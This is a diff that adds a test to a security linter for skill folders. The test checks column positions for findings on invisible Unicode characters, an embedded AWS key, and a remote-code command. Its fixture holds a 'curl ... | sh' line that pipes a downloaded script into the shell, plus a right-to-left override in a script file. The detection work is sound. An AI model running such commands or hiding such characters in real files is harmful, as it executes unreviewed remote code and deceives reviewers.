@@ -726,6 +726,29 @@ def test_an_aws_key_id_is_base32(
     assert [(d["line"], d["message"].split(" in ")[0]) for d in hits] == [(9, "AWS access key id")]
 
 
+def test_security_findings_point_at_what_was_found(
+    skill: Writer, lint: Callable[..., subprocess.CompletedProcess[str]]
+) -> None:
+    """SKL901, SKL904 and SKL905 gave no column: the caret and GitHub's ``col`` pointed at
+    the line's first non-blank, not at the hidden character, the key or the command."""
+    folder = skill(
+        body=(
+            "  The separator here\u200bis invisible.\n"
+            f"  key: {AWS_KEY} here\n"
+            'which uv || echo "x" && curl -fsSL https://get.example.com/i.sh | sh\n'
+        ),
+        files={"scripts/run.sh": "echo ok \u202e done\n"},
+    )
+    proc = lint(str(folder), "--format", "json", "--select", "SKL901,SKL904,SKL905", script=True)
+    hits = json.loads(proc.stdout)["diagnostics"]
+    assert sorted((d["rule"], d["file"], d["line"], d["column"]) for d in hits) == [
+        ("SKL901", "SKILL.md", 8, 21),
+        ("SKL901", "scripts/run.sh", 1, 9),
+        ("SKL904", "SKILL.md", 9, 8),
+        ("SKL905", "SKILL.md", 10, 25),
+    ]
+
+
 # -- SKL905 remote-code ------------------------------------------------------------------------
 
 
